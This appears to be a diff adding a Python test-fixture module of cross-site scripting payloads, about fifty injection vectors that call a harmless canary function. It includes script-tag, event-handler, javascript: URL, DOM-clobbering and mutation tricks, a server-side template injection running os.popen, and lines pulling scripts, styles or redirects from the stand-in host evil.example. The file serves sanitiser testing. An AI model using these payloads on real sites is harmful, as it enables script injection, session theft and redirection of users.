@@ -1,0 +1,61 @@
+# ruff: noqa: E501
+"""Scripts as they are smuggled into pages. Each calls ``ran`` where it runs."""
+
+from __future__ import annotations
+
+CANARY = "ran(document.location)"
+
+PAYLOADS = {
+    "script": "<script>ran(1)</script>",
+    "script in capitals": "<ScRiPt>ran(1)</sCrIpT >",
+    "script with a slash": "<script/x>ran(1)</script>",
+    "script from elsewhere": "<script src=//evil.example/x.js></script>",
+    "module": "<script type=module>ran(1)</script>",
+    "end of an island": "</script><script>ran(1)</script>",
+    "end of an island in a comment": "<!--<script></script><script>ran(1)</script>-->",
+    "end of a style": "</style><script>ran(1)</script>",
+    "end of a title": "</title><script>ran(1)</script>",
+    "end of a text field": "</textarea><script>ran(1)</script>",
+    "end of an option": "</option></select><script>ran(1)</script>",
+    "end of a template": "</template><script>ran(1)</script>",
+    "end of a comment": "--><script>ran(1)</script>",
+    "image": "<img src=x onerror=ran(1)>",
+    "image without spaces": "<img/src=x/onerror=ran(1)>",
+    "image from elsewhere": "<img src=https://evil.example/pixel>",
+    "svg": "<svg onload=ran(1)>",
+    "svg script": "<svg><script>ran(1)</script></svg>",
+    "svg animation": "<svg><a xlink:href=javascript:ran(1)><animate attributeName=href values=javascript:ran(1) /></a></svg>",
+    "mathml": "<math><mtext></form><form><mglyph><style></math><img src onerror=ran(1)>",
+    "details": "<details open ontoggle=ran(1)>",
+    "video": "<video><source onerror=ran(1)></video>",
+    "autofocus": "<input autofocus onfocus=ran(1)>",
+    "body": "<body onload=ran(1) onpageshow=ran(1)>",
+    "base": "<base href=https://evil.example/>",
+    "meta refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "meta policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
+    "frame": "<iframe src=javascript:parent.ran(1)></iframe>",
+    "frame with a document": "<iframe srcdoc='<script>parent.ran(1)</script>'></iframe>",
+    "object": "<object data=javascript:ran(1)></object><embed src=javascript:ran(1)>",
+    "form": "<form action=javascript:ran(1)><button>x</button></form>",
+    "link": "<a href=javascript:ran(1)>x</a>",
+    "link with a tab": "<a href='java\tscript:ran(1)'>x</a>",
+    "link as an entity": "<a href='&#106;avascript:ran(1)'>x</a>",
+    "data address": "<a href='data:text/html,<script>ran(1)</script>'>x</a>",
+    "double quote": "\" onfocus=ran(1) autofocus x=\"",
+    "single quote": "' onfocus=ran(1) autofocus x='",
+    "back quote": "` onfocus=ran(1) autofocus x=`${ran(1)}",
+    "template": "{{ cycler.__init__.__globals__.os.popen('id').read() }}{% raw %}${ran(1)}{{constructor.constructor('ran(1)')()}}",
+    "style": "<style>@import '//evil.example/x.css';*{background:url(//evil.example/y)}</style>",
+    "style attribute": "<p style='background:url(//evil.example/z);width:expression(ran(1))'>x</p>",
+    "line separators": "\u2028ran(1)\u2029</script>\u2028",
+    "clobbering": "<form id=page-sheet><input name=textContent><input id=words><img name=body id=island></form><a id=page></a><a id=page></a>",
+    "clobbering the document": "<img name=getElementById><img name=cookie><form name=forms id=token></form>",
+    "prototype": "__proto__",
+    "mutation": "<noscript><p title='</noscript><img src=x onerror=ran(1)>'>",
+    "half a tag": "<img src=x onerror=ran(1) ",
+    "control characters": "<\x0cscript\x0c>ran(1)</script\x0c>",
+    "right to left": "\u202e<script>ran(1)</script>",
+    "full width": "\uff1cscript\uff1eran(1)\uff1c/script\uff1e",
+}  # fmt: skip
+_ALONE = ("base", "mathml", "half a tag", "meta refresh", "end of a template")
+PAYLOADS["everything"] = "".join(one for name, one in PAYLOADS.items() if name not in _ALONE)
